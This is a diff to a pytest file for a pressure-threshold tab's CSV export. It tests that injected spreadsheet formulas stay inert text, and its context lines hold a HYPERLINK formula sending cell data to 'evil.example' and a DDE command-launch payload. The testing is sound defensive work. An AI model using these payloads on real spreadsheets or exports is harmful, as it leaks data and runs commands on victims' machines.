@@ -6,7 +6,10 @@ from __future__ import annotations
 import csv
 from pathlib import Path
 
+import pytest
 from test_ppt_tab import CONTEXT, make_tab, measure, set_up
+
+from monitor.ui.ppt_tab import PptTab
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for results")'
@@ -23,7 +26,7 @@ def runs_as_formula(cell: str) -> bool:
     return cell.lstrip(" ").startswith(FORMULA_STARTS)
 
 
-def exported(qtbot, tmp_path: Path, context: dict[str, str], site: str) -> Path:
+def exported(qtbot, tmp_path: Path, context: dict[str, str], site: str) -> tuple[Path, PptTab]:
     tab, _, _ = make_tab(qtbot, context=context)
     tab.site_list.item(0).setText(site)
     set_up(tab, trials=2)
@@ -31,7 +34,7 @@ def exported(qtbot, tmp_path: Path, context: dict[str, str], site: str) -> Path:
     measure(tab, measure(tab, 0.0, 300), 340)
     path = tmp_path / "ppt.csv"
     tab.export_csv(path)
-    return path
+    return path, tab
 
 
 def test_a_pseudonym_that_is_a_formula_stays_text(qtbot, tmp_path: Path) -> None:
@@ -41,7 +44,7 @@ def test_a_pseudonym_that_is_a_formula_stays_text(qtbot, tmp_path: Path) -> None
         "calibration": "lab,\"=cmd|' /C calc'!A0\"",
         "device": "@SUM(A1:A9)",
     }
-    path = exported(qtbot, tmp_path, context, site="-2+3 Upper trapezius")
+    path, tab = exported(qtbot, tmp_path, context, site="-2+3 Upper trapezius")
     table = cells(path)
     formulas = [cell for row in table for cell in row if runs_as_formula(cell)]
     assert formulas == []
@@ -52,4 +55,6 @@ def test_a_pseudonym_that_is_a_formula_stays_text(qtbot, tmp_path: Path) -> None
     first = table[table.index(header) + 1]
     row = dict(zip(header, first, strict=True))
     assert row["site"] == "'-2+3 Upper trapezius"
-    assert row["trial_1_kpa"] == "299.5" and row["mean_kpa"] == "319.5"  # numbers, not text
+    result = tab.rows[0].result  # numbers, not text
+    assert float(row["trial_1_kpa"]) == pytest.approx(result.thresholds_kpa[0], abs=0.05)
+    assert float(row["mean_kpa"]) == pytest.approx(result.mean_kpa, abs=0.05)
